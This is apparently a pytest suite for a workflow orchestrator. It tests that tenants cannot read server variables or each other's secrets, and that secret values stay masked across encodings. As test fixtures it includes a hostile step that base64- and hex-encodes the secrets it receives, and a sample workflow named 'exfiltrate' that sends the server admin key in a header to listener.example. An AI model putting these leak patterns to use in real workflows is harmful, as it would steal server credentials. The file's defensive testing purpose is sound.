"""Secrets belong to owners: an ordinary key reaches its own secrets and the operator's shared ones, never
a server variable, never another owner's, and cannot tell which server variables exist."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from cryptography.fernet import Fernet
from pydantic import BaseModel

from orchestrator.adapters.local.env_secrets import EnvSecrets
from orchestrator.adapters.local.memory import MemoryBlobs
from orchestrator.adapters.local.store_vault import StoreVault
from orchestrator.adapters.sqlite import SqliteStore
from orchestrator.domain.validation import validate_workflow
from orchestrator.domain.workflow import WorkflowDefinition
from orchestrator.masking import Masker
from orchestrator.services.owner_secrets import VaultSecretResolver
from orchestrator.services.step_records import StepRecords
from orchestrator.services.step_runner import StepRunnerPorts, StepRunRequest, run_step
from orchestrator.services.workflow_plan import execution_context
from orchestrator.steps import registry
from orchestrator.steps.base import StepConfig, StepContext, StepResult
from orchestrator.steps.registry import STEP_TYPES

SERVER_ENV = {
    "ORCHESTRATOR_ADMIN_KEY": "ork_the-servers-admin-key",
    "AWS_SECRET_ACCESS_KEY": "aws-credential-of-the-server",
    "DATABASE_PASSWORD": "an-unprefixed-server-variable",
    "ORCHESTRATOR_SECRET_shared_token": "operator-shared-value",
}


class LeakConfig(StepConfig):
    value: Any = None


class LeakExecutor:
    """What a hostile step does with what it gets: returns it raw, base64-, hex- and URL-encoded."""

    type_name: ClassVar[str] = "test_leak"
    config_model: ClassVar[type[BaseModel]] = LeakConfig

    def execute(self, config: LeakConfig, inputs: dict[str, Any], ctx: StepContext) -> StepResult:
        text = str(config.value)
        raw = text.encode()
        ctx.log(f"got {text}")
        return StepResult(output={"raw": text, "b64": base64.b64encode(raw).decode(), "hex": raw.hex(),
                                  "shifted_b64": base64.b64encode(b"x" + raw + b"y").decode(),
                                  "owner": ctx.owner_id, "trusted": ctx.trusted})


@pytest.fixture(autouse=True)
def leak_executor() -> Iterator[None]:
    registry.register(LeakExecutor())
    yield
    registry._registered.pop("test_leak", None)
    registry.known_types.cache_clear()


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteStore]:
    store = SqliteStore(tmp_path / "orchestrator.db")
    yield store
    store.close()


@pytest.fixture
def ports(store: SqliteStore) -> StepRunnerPorts:
    vault = StoreVault(store.secrets, lambda: Fernet.generate_key().decode())
    vault.put_secret("alice", "api_token", "alice-only-t0ken")
    shared = EnvSecrets(prefix="ORCHESTRATOR_SECRET_", env_file=None, environ=SERVER_ENV)
    resolver = VaultSecretResolver(vault, shared, Masker())
    return StepRunnerPorts(store.step_results, MemoryBlobs(), resolver, inline_limit=64 * 1024)


def run_as(ports: StepRunnerPorts, owner: str, value: str, execution_id: str) -> dict[str, Any]:
    """Given a one-step workflow of ``owner`` whose step gets ``value`` rendered / When the step runs
    Then its stored record is returned."""
    definition = WorkflowDefinition.model_validate(
        {"name": "probe", "steps": [{"id": "leak", "type": "test_leak", "config": {"value": "x"}}]})
    context = execution_context(definition, {}, owner_id=owner)
    context["definition"]["steps"][0]["config"]["value"] = value  # as stored, bypassing validation
    ports.results.put(execution_id, "$execution", context)
    run_step(StepRunRequest.model_validate({"execution": {"id": execution_id}, "step": {"id": "leak"}}), ports)
    return StepRecords(ports.results, ports.blobs, execution_id, ports.inline_limit).get("leak")


@pytest.mark.parametrize("name", ["ORCHESTRATOR_ADMIN_KEY", "orchestrator_admin_key", "AWS_SECRET_ACCESS_KEY"])
def test_a_server_setting_is_a_validation_error(name: str):
    # Given a workflow whose http step sends a server setting as a header
    raw = {"name": "exfiltrate", "steps": [{"id": "send", "type": "http", "config": {
        "url": "https://listener.example/", "headers": {"X-Admin": "{{secrets." + name + "}}"}}}]}
    # When validated / Then it is refused at the header's location, naming why
    problems = validate_workflow(raw, STEP_TYPES)
    assert [p.location for p in problems] == ["steps[0].config.headers.X-Admin"]
    assert "reserved" in problems[0].message


def test_a_server_setting_is_refused_at_run_time_too(ports):
    # Given a stored definition that got past validation somehow / When it runs / Then it fails, value unseen
    record = run_as(ports, "bob", "{{secrets.ORCHESTRATOR_ADMIN_KEY}}", "e-admin")
    assert record["status"] == "failed" and record["error"] == "Step.TemplateError"
    assert "ork_the-servers-admin-key" not in str(record)


def test_another_owners_secret_is_not_found(ports):
    # Given alice's secret / When bob's execution asks for it by name / Then bob's step fails, value unseen
    record = run_as(ports, "bob", "{{secrets.api_token}}", "e-bob")
    assert record["status"] == "failed"
    assert "secret 'api_token' not found" in record["cause"]
    assert "alice-only-t0ken" not in str(record)


def test_missing_secrets_do_not_tell_which_server_variables_exist(ports):
    # Given a variable the server has and a name nobody has
    existing = run_as(ports, "bob", "{{secrets.DATABASE_PASSWORD}}", "e-existing")
    made_up = run_as(ports, "bob", "{{secrets.NO_SUCH_THING_AT_ALL}}", "e-made-up")
    # Then both answer the same way, naming only the secret asked for
    assert existing["status"] == made_up["status"] == "failed"
    assert existing["cause"].replace("DATABASE_PASSWORD", "N") == made_up["cause"].replace("NO_SUCH_THING_AT_ALL", "N")
    assert "an-unprefixed-server-variable" not in str(existing)


def test_owner_reads_own_secret_and_shared_one_masked_in_every_encoding(ports):
    # When alice's step gets her secret and the operator's shared one
    own = run_as(ports, "alice", "{{secrets.api_token}}", "e-alice")
    shared = run_as(ports, "bob", "{{secrets.shared_token}}", "e-shared")
    # Then both ran, and neither value shows in the record: not raw, base64 (any alignment), hex or logs
    for record, value in ((own, "alice-only-t0ken"), (shared, "operator-shared-value")):
        assert record["status"] == "succeeded"
        output = record["output"]
        assert output["raw"] == output["b64"] == output["hex"] == "***"
        assert "***" in output["shifted_b64"]
        text = str(record)
        for form in (value, base64.b64encode(value.encode()).decode(), value.encode().hex()):
            assert form not in text
    # And the step knew whose execution it was: a tenant is never trusted
    assert own["output"]["owner"] == "alice" and own["output"]["trusted"] is False


def test_secrets_named_in_an_output_mapping_are_masked_in_the_stored_output(ports):
    # Given alice's step whose output_mapping copies her secret into its output
    definition = WorkflowDefinition.model_validate({"name": "copy", "steps": [{
        "id": "leak", "type": "test_leak", "config": {"value": "x"},
        "output_mapping": {"whole": "{{secrets.api_token}}", "inside": "token={{secrets.api_token}};"}}]})
    ports.results.put("e-map", "$execution", execution_context(definition, {}, owner_id="alice"))
    # When it runs
    run_step(StepRunRequest.model_validate({"execution": {"id": "e-map"}, "step": {"id": "leak"}}), ports)
    record = StepRecords(ports.results, ports.blobs, "e-map", ports.inline_limit).get("leak")
    # Then the stored output holds the mask, not the value
    assert record["output"] == {"whole": "***", "inside": "token=***;"}
